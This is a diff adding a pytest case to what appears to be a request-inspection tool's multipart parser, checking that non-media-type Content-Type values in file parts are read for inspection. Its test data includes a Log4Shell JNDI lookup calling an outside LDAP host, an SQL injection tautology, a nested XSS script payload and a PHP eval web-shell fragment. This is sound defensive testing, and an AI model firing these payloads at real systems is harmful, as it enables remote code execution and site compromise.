@@ -279,6 +279,23 @@ def test_multipart_fields_and_filenames() -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    ("ctype", "read"),
+    [
+        ("${jndi:ldap://203.0.113.10:1389/x}", True),
+        ("' OR '1'='1' -- ", True),
+        ("<scr<script>ipt>alert(1)</scr</script>ipt>", True),
+        ("image/png", False),
+        ("text/plain; charset=UTF-8", False),
+        ('multipart/mixed; boundary="b1:(x)"', False),
+        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", False),
+    ],
+)
+def test_a_parts_own_content_type_is_read_when_it_is_no_media_type(ctype: str, read: bool) -> None:
+    body = multipart((f'Content-Disposition: form-data; name="f"; filename="a.pdf"\r\nContent-Type: {ctype}', b"%PDF-1.7"))
+    assert (("f#content-type", ctype.strip()) in body_fields(post(body, MP))) is read
+
+
 def test_multipart_text_content_under_binary_label_is_inspected() -> None:
     body = multipart(('Content-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png', b"<?php eval($x); ?>"))
     assert body_fields(post(body, MP)) == [("f#filename", "a.png"), ("f", "<?php eval($x); ?>")]
